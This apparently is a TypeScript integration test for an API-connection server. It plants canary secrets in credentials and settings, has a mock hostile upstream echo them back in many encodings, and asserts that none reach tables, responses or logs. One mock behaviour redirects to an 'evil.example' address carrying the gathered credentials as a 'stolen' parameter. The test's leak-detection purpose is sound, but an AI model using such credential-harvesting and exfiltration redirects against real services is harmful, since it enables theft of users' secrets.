// Plants secrets in every place that takes one, lets an upstream send each of them back in every way it can, and then looks
// for them in all tables, all answers and the whole log, as they are and in every form they may have taken on the way.
import assert from "node:assert/strict";
import { test } from "node:test";
import { api } from "../../packages/contract/src/api.ts";
import type { Auth } from "../../packages/contract/src/credential.ts";
import { createLog } from "../../packages/server/src/platform/log.ts";
import { startServer, testOwner, valueOf } from "../harness.ts";
import { type Behaviour, type Received, startUpstream } from "../upstream.ts";
import {
  bearer,
  contentOf,
  openTables,
  publishedConnection,
  requester,
  ruleThat,
  signIn,
} from "./workbench.ts";

/** Different each, and full of what is written differently in URLs, JSON, XML and base64. */
const canary = (name: string): string => `cnry-${name} "q"/&<+>=%41'`;

/** Every form of a text that a careless writer might leave behind. */
function formsOf(secret: string): string[] {
  const url = encodeURIComponent(secret);
  const inBase64 = [0, 1, 2].map((offset) => {
    const text = Buffer.from("x".repeat(offset) + secret).toString("base64");
    return text.slice(Math.ceil((offset * 4) / 3), Math.floor(((offset + secret.length) * 4) / 3) - 1);
  });
  return [
    secret,
    url,
    url.toLowerCase(),
    url.replaceAll("%20", "+"),
    new URLSearchParams([["", secret]]).toString().slice(1),
    JSON.stringify(secret).slice(1, -1),
    JSON.stringify(JSON.stringify(secret)).slice(3, -3),
    secret.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
    Buffer.from(secret).toString("hex"),
    ...inBase64,
    ...inBase64.map((text) => text.replaceAll("+", "-").replaceAll("/", "_")),
  ];
}

const secrets = {
  basic: canary("basic"),
  bearer: canary("bearer"),
  keyHeader: canary("key-header"),
  keyUrl: canary("key-url"),
  tokenHeader: canary("token-header"),
  tokenUrl: canary("token-url"),
  rotated: canary("rotated"),
  encrypted: canary("encrypted"),
  presetHeader: canary("preset-header"),
  presetQuery: canary("preset-query"),
  presetMarked: canary("preset-marked"),
  presetCookie: "cnry-cookie/+=",
  unsaved: canary("unsaved"),
  unsavedPreset: canary("unsaved-preset"),
  literal: canary("literal"),
  password: canary("password"),
  nextPassword: canary("next-password"),
  wrongPassword: canary("wrong-password"),
  late: canary("late"),
  latePassword: canary("late-password"),
  ringKey: Buffer.alloc(32, 0xa7).toString("base64"),
  digest: canary("digest"),
  hmac: canary("hmac"),
  sigV4: canary("sigv4"),
  sigV4Session: canary("sigv4-session"),
  wsse: canary("wsse"),
  oauth1Consumer: canary("oauth1-consumer"),
  oauth1Token: canary("oauth1-token"),
  jwtKey: canary("jwt-key"),
  custom: canary("custom"),
  clientSecret: canary("client-secret"),
  accessToken: canary("access-token"),
  userSecret: canary("user-client-secret"),
  userPassword: canary("user-password"),
  refreshToken: canary("refresh-token"),
  ownToken: canary("own-token"),
  ownPin: canary("own-pin"),
  session: "cnry-session/+=",
  refusedSecret: canary("refused-client-secret"),
  refusedPassword: canary("refused-password"),
  code: canary("code"),
  proxy: canary("proxy"),
};

const auths: Readonly<Record<string, Auth>> = {
  basic: { kind: "basic", username: "ann", password: secrets.basic },
  bearer: { kind: "bearer", token: secrets.bearer },
  keyHeader: { kind: "apiKey", location: "header", headerName: "X-Api-Key", value: secrets.keyHeader },
  keyUrl: { kind: "apiKey", location: "url", paramName: "api_key", value: secrets.keyUrl },
  tokenHeader: { kind: "token", location: "header", scheme: "Token", token: secrets.tokenHeader },
  tokenUrl: { kind: "token", location: "url", paramName: "t", token: secrets.tokenUrl },
};

/** Kinds that sign, or that first ask for a token. The upstream gives the tokens that `further` expects of it. */
const furtherAuths = (origin: string): Readonly<Record<string, Auth>> => {
  const client = { tokenUrl: `${origin}/token`, clientId: "us" } as const;
  return {
    digest: { kind: "digest", username: "ann", password: secrets.digest },
    hmac: { kind: "hmac", algorithm: "sha256", key: secrets.hmac, message: "{method}", headers: { "X-Sign": "{signature}" } }, // prettier-ignore
    sigV4: { kind: "awsSigV4", accessKeyId: "id", secretAccessKey: secrets.sigV4, sessionToken: secrets.sigV4Session, region: "r", service: "s" }, // prettier-ignore
    wsse: { kind: "wsse", username: "ann", password: secrets.wsse },
    oauth1: { kind: "oauth1", signatureMethod: "PLAINTEXT", consumerKey: "k", consumerSecret: secrets.oauth1Consumer, token: "t", tokenSecret: secrets.oauth1Token }, // prettier-ignore
    jwt: { kind: "jwtBearer", algorithm: "HS256", key: secrets.jwtKey },
    custom: { kind: "custom", headers: { "X-Own": "{{connection.http.encrypted.own}}" } },
    client: { kind: "oauth2ClientCredentials", ...client, clientSecret: secrets.clientSecret },
    user: { kind: "oauth2Password", ...client, clientSecret: secrets.userSecret, username: "ann", password: secrets.userPassword }, // prettier-ignore
    own: {
      kind: "token",
      location: "header",
      refresh: {
        relativeUri: "/own-token",
        body: { pin: "{{connection.http.encrypted.ownPin}}" },
        tokenPath: "t",
      },
    },
    cookie: {
      kind: "cookie",
      relativeUri: "/sign-in",
      body: { pin: "{{connection.http.encrypted.ownPin}}" },
    },
    refused: { kind: "oauth2Password", ...client, tokenUrl: `${origin}/no-token`, clientSecret: secrets.refusedSecret, username: "ann", password: secrets.refusedPassword }, // prettier-ignore
  };
};

/** What of a token request an upstream could repeat: its form too. */
const tokenLoot = (request: Received): string =>
  [loot(request), request.body.toString(), ...new URLSearchParams(request.body.toString()).values()].join(
    "\n",
  );

/** All that a request carries, as an upstream might send it back: as it came, decoded, and in base64. */
function loot({ target, headers }: Received): string {
  const query = [...new URL(target, "http://upstream").searchParams.values()];
  const basic = /^Basic (.+)$/.exec(headers.authorization as string)?.[1];
  const texts = [
    ...Object.values(headers).map(String),
    ...query,
    ...(basic === undefined ? [] : [Buffer.from(basic, "base64").toString()]),
    ...Object.values(headers).map((value) => String(value).replace(/^\w+ /, "")),
  ];
  return [target, ...texts, ...texts.map((text) => Buffer.from(text).toString("base64"))].join("\n");
}

const xml = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");

/** Ways to answer, each with the whole loot in it. */
const ways: Readonly<Record<string, (request: Received) => Behaviour>> = {
  json: (request) => ({ kind: "answer", body: { loot: loot(request), [loot(request)]: 1 } }),
  status500: (request) => ({ kind: "answer", status: 500, body: { error: { message: loot(request) } } }),
  status404: (request) => ({ kind: "answer", status: 404, headers: { "content-type": "text/plain" }, body: loot(request) }), // prettier-ignore
  notJson: (request) => ({ kind: "answer", headers: { "content-type": "application/json" }, body: `{"a": ${loot(request)}` }), // prettier-ignore
  html: (request) => ({
    kind: "answer",
    headers: { "content-type": "text/html" },
    body: `<p>${loot(request)}</p>`,
  }),
  xml: (request) => ({ kind: "answer", headers: { "content-type": "application/xml" }, body: `<a b="1">${xml(loot(request))}</a>` }), // prettier-ignore
  selected: (request) => ({ kind: "answer", body: { pick: String(request.headers["x-secret"] ?? request.headers["x-key"]) } }), // prettier-ignore
  binary: (request) => ({ kind: "answer", headers: { "content-type": "application/octet-stream" }, body: Buffer.from(loot(request)) }), // prettier-ignore
  redirect: (request) => ({ kind: "redirect", location: `https://evil.example/?stolen=${encodeURIComponent(loot(request))}` }), // prettier-ignore
  headers: (request) => ({
    kind: "answer",
    headers: {
      "x-echo": loot(request).replaceAll("\n", " "),
      "set-cookie": `sid=${encodeURIComponent(loot(request))}`,
    },
    body: {},
  }),
  large: (request) => ({
    kind: "answer",
    body: { pad: "x".repeat(900), loot: loot(request), more: loot(request) },
  }),
  reset: () => ({ kind: "reset", inBody: true }),
  truncate: () => ({ kind: "truncate" }),
  notHttp: (request) => ({ kind: "raw", bytes: loot(request) }),
  badHeader: (request) => ({ kind: "raw", bytes: `HTTP/1.1 200 OK\r\n${loot(request)}\r\n\r\n` }),
  hang: () => ({ kind: "hang" }),
  oversized: () => ({ kind: "oversized", bytes: 100_000 }),
};

test("no secret is found anywhere but sealed", { timeout: 240_000 }, async (t) => {
  const lines: string[] = [];
  const log = createLog({ level: "debug", destination: { write: (line) => void lines.push(line) } });
  const upstream = await startUpstream(t);
  upstream.on("*", "/health", { kind: "answer", body: {} });
  for (const [way, act] of Object.entries(ways)) upstream.on("*", `/${way}`, act);
  const server = await startServer(t, {
    log,
    env: {
      PATCHBAY_SECRET_KEYS: `ring:${secrets.ringKey}`,
      PATCHBAY_RECORDED_BODY_BYTES: "1000",
      PATCHBAY_LOG_LEVEL: "debug",
    },
  });
  const answers: string[] = [];
  const send = requester(server.url);
  const ask = async (...request: Parameters<typeof send>): Promise<string> => {
    const { text, headers } = await send(...request);
    answers.push(`${request[0]} ${request[1]}\n${JSON.stringify([...headers])}\n${text}`);
    return text;
  };

  await t.test("planted in credentials, connections and tests, and read back", async () => {
    for (const [name, auth] of Object.entries(auths)) {
      const credential = { name, auth, origins: [upstream.origin], encrypted: { pin: secrets.encrypted } };
      await ask("POST", "/api/v1/credentials", { body: credential });
      await publishedConnection(server, {
        name: `shop-${name}`,
        settings: {
          baseUrl: upstream.origin,
          credential: name,
          timeout: 200,
          maxResponseBytes: 50_000,
          headers: [
            { name: "X-Secret", value: secrets.presetHeader },
            { name: "Cookie", value: `sid=${secrets.presetCookie}` },
            { name: "X-Plain", value: secrets.presetMarked, secret: true },
            { name: "X-Pin-Token", value: "pin {{connection.http.encrypted.pin}} end" },
          ],
          query: [{ name: "access_token", value: secrets.presetQuery }],
        },
      });
    }
    await ask("PATCH", "/api/v1/credentials/bearer", {
      body: { auth: { kind: "bearer", token: secrets.rotated } },
    });
    await ask("POST", "/api/v1/connections/shop-basic/duplicate", { body: { name: "copy" } });
    const unsaved = {
      baseUrl: upstream.origin,
      headers: [{ name: "X-Key", value: secrets.unsaved }],
      query: [{ name: "api_key", value: secrets.unsavedPreset }],
      timeout: 200,
      maxResponseBytes: 50_000,
    };
    for (const way of Object.keys(ways)) {
      const settings = { ...unsaved, ping: { relativeUri: `/${way}`, errorPath: "error.message" } };
      await ask("POST", "/api/v1/connection-tests", { body: { environment: "staging", settings } });
      await ask("POST", "/api/v1/connections/shop-basic/test", {
        body: { environment: "staging", settings },
      });
    }
  });

  await t.test("sent back in every way, by runs and tests", async () => {
    for (const name of Object.keys(auths)) {
      // To hang takes its time; once is enough.
      const tried = Object.keys(ways).filter((way) => way !== "hang" || name === "basic");
      const actions = tried.map((way) => ({
        id: way,
        name: way,
        connection: `shop-${name}`,
        method: "POST" as const,
        restUrl: `/${way}`,
        requestPayload: { seen: "{{#if actions.json}}{{actions.json.restResult}}{{/if}}" },
        judgement: { errorPath: "error.message", ...(way === "selected" ? { resultPath: "pick" } : {}) },
      }));
      const document = ruleThat({ actions });
      await ask("POST", "/api/v1/rules", { body: { name: `Rule-${name}`, document } });
      await ask("POST", `/api/v1/rules/Rule-${name}/publish`, { body: {} });
      for (const path of ["run", "test"]) {
        const text = await ask("POST", `/api/v1/rules/Rule-${name}/${path}`, { body: { params: {} } });
        assert.match(text, /"id":"oversized"/, `the run got to its end: ${text.slice(0, 300)}`);
      }
      await ask("POST", `/api/v1/rules/Rule-${name}/run`, {
        body: {},
        headers: { "idempotency-key": `key-${name}` },
      });
    }
    const sent = upstream.requests.map(loot).join("\n");
    for (const name of [
      "basic",
      "rotated",
      "keyHeader",
      "keyUrl",
      "tokenHeader",
      "tokenUrl",
      "encrypted",
      "presetHeader",
      "presetQuery",
      "presetMarked",
      "presetCookie",
      "unsaved",
      "unsavedPreset",
    ] as const)
      // prettier-ignore
      assert.ok(sent.includes(secrets[name]), `the upstream did see ${name}`);
    assert.ok(!upstream.requests.some(({ body }) => formsOf(secrets.rotated).some((form) => body.includes(form))), "an echo cannot be sent on by the next action"); // prettier-ignore
  });

  await t.test("signed with, exchanged for tokens, and sent back", async () => {
    const token = {
      access_token: secrets.accessToken,
      refresh_token: secrets.refreshToken,
      expires_in: 3600,
    };
    // As a proxy it is asked with whole addresses.
    for (const at of ["", upstream.origin]) {
      for (const [way, act] of Object.entries(ways)) upstream.on("*", `${at}/${way}`, act);
      upstream
        .on("POST", `${at}/token`, { kind: "answer", body: token })
        .on("POST", `${at}/own-token`, { kind: "answer", body: { t: secrets.ownToken } })
        .on("POST", `${at}/sign-in`, {
          kind: "answer",
          headers: { "set-cookie": `sid=${secrets.session}` },
        })
        .on("POST", `${at}/no-token`, (request) => ({
          kind: "answer",
          status: 400,
          body: { error: "invalid_client", error_description: tokenLoot(request) },
        }));
    }
    for (const [name, auth] of Object.entries(furtherAuths(upstream.origin))) {
      const encrypted = { own: secrets.custom, ownPin: secrets.ownPin };
      await ask("POST", "/api/v1/credentials", {
        body: { name, auth, origins: [upstream.origin], encrypted },
      });
      const settings = {
        baseUrl: upstream.origin,
        credential: name,
        ping: { relativeUri: "/json" },
        ...(name === "refused"
          ? {}
          : { proxy: { url: upstream.origin, username: "us", password: secrets.proxy } }),
      };
      const staging = { ...settings, proxy: null };
      await ask("POST", "/api/v1/connections", {
        body: { name: `shop-${name}`, production: settings, staging },
      });
      for (const way of ["json", "status500", "headers", "redirect"])
        for (const environment of ["staging", "production"]) {
          const tried = {
            ...(environment === "staging" ? staging : settings),
            ping: { relativeUri: `/${way}` },
          };
          const text = await ask("POST", `/api/v1/connections/shop-${name}/test`, { body: { environment, settings: tried } }); // prettier-ignore
          assert.match(
            text,
            name === "refused" ? /TOKEN_REQUEST_FAILED/ : /"request":\{/,
            text.slice(0, 300),
          );
        }
      await ask("GET", `/api/v1/credentials/${name}`);
      await ask("POST", `/api/v1/credentials/${name}/revoke`, { body: {} });
    }
    const grant = { kind: "oauth2AuthorizationCode", authorizationUrl: `${upstream.origin}/a`, tokenUrl: `${upstream.origin}/no-token`, clientId: "us", clientSecret: secrets.refusedSecret }; // prettier-ignore
    await ask("POST", "/api/v1/credentials", {
      body: { name: "grant", auth: grant, origins: [upstream.origin] },
    });
    const begun = JSON.parse(await ask("POST", "/api/v1/credentials/grant/authorize", { body: { environment: "staging" } })) as { url: string }; // prettier-ignore
    const state = new URL(begun.url).searchParams.get("state");
    assert.match(await ask("POST", "/api/v1/credential-authorizations", { body: { state, code: secrets.code } }), /authorization_failed/); // prettier-ignore
    const seen = upstream.requests.map(tokenLoot).join("\n");
    for (const name of [
      "sigV4Session",
      "custom",

      "accessToken",
      "userPassword",
      "ownToken",
      "session",
      "refusedPassword",
      "code",
      "proxy",
    ] as const)
      // prettier-ignore
      assert.ok(formsOf(secrets[name]).some((form) => seen.includes(form)), `the upstream did see ${name}`);
  });

  await t.test("sent where they do not belong, and refused", async () => {
    const action = { id: "a", name: "A", connection: "shop-basic", method: "GET", restUrl: "/json" };
    for (const wrong of [
      { requestHeaders: { Authorization: `Bearer ${secrets.literal}` } },
      { restUrlParams: { api_key: secrets.literal } },
      { restUrl: `/json?token=${encodeURIComponent(secrets.literal)}` },
    ]) {
      const document = { ...ruleThat({}), actions: [{ ...action, ...wrong }] };
      assert.match(
        await ask("POST", "/api/v1/rules", { body: { name: "Literal", document } }),
        /literal_secret/,
      );
    }
    const user = { email: "ann@example.test", name: "Ann", role: "viewer", password: secrets.password };
    await ask("POST", "/api/v1/users", { body: user });
    await ask("POST", "/api/v1/users", { body: { ...user, password: secrets.nextPassword, role: "king" } });
    await ask("POST", "/api/v1/session", {
      body: { email: "ann@example.test", password: secrets.wrongPassword },
    });
    await ask("POST", "/api/v1/credentials", { body: { name: "x", auth: { kind: "bearer", token: `${secrets.bearer}\n` }, origins: [upstream.origin] } }); // prettier-ignore
  });

  const tables = await openTables(t, server.connectionString);
  await t.test("given while the database refuses to keep them", async () => {
    for (const table of ["secrets", "users"])
      await tables(`alter table ${table} add constraint full_disk check (false) not valid`);
    const token = { name: "late", auth: { kind: "bearer", token: secrets.late }, origins: [upstream.origin] };
    assert.match(await ask("POST", "/api/v1/credentials", { body: token }), /internal_error/);
    const user = { email: "late@example.test", name: "L", role: "viewer", password: secrets.latePassword };
    assert.match(await ask("POST", "/api/v1/users", { body: user }), /internal_error/);
    for (const table of ["secrets", "users"]) await tables(`alter table ${table} drop constraint full_disk`);
    assert.equal(lines.filter((line) => line.includes("full_disk")).length, 2, "the operator was told");
  });

  const cookie = await signIn(server.url, testOwner.email, testOwner.password);
  const { key } = valueOf(await server.call(api.apiKeys.create, { body: { name: "k" } }));
  await requester(server.url, { cookie })("GET", "/api/v1/rules");
  await requester(server.url, bearer(key))("GET", "/dev/rule");

  for (const list of [
    "users",
    "api-keys",
    "audit",
    "workspace",
    "settings",
    "credentials",
    "connections",
    "endpoints",
    "rules",
    "executions",
  ])
    // prettier-ignore
    await ask("GET", `/api/v1/${list}?${list === "workspace" || list === "settings" ? "" : "perPage=100"}`);
  for (const name of Object.keys(auths)) {
    await ask("GET", `/api/v1/credentials/${name}`);
    await ask("GET", `/api/v1/connections/shop-${name}`);
    await ask("GET", `/api/v1/rules/Rule-${name}`);
  }
  for (const { id } of valueOf(await server.call(api.executions.list, { query: { perPage: 100 } })).items)
    await ask("GET", `/api/v1/executions/${id}`);
  for (const path of ["/api/openapi.json", "/metrics", "/readyz", "/dev/rule"]) await ask("GET", path);

  const places = { tables: await contentOf(tables), answers: answers.join("\n"), log: lines.join("\n") };
  assert.ok(
    places.tables.length > 100_000 && places.answers.length > 100_000,
    "there was something to search",
  );
  const all = { ...secrets, apiKey: key, ownersKey: testOwner.apiKey, ownersPassword: testOwner.password, session: cookie.split("=")[1] ?? "" }; // prettier-ignore
  const found = Object.entries(all).flatMap(([name, secret]) =>
    Object.entries(places).flatMap(([place, text]) =>
      formsOf(secret)
        .filter((form) => form.length >= 8 && text.includes(form))
        .map((form) => `${name} in ${place} as ${form}: …${around(text, form)}…`),
    ),
  );
  assert.deepEqual(found, []);
});

const around = (text: string, form: string): string => {
  const at = text.indexOf(form);
  return text.slice(Math.max(0, at - 150), at + form.length + 50);
};
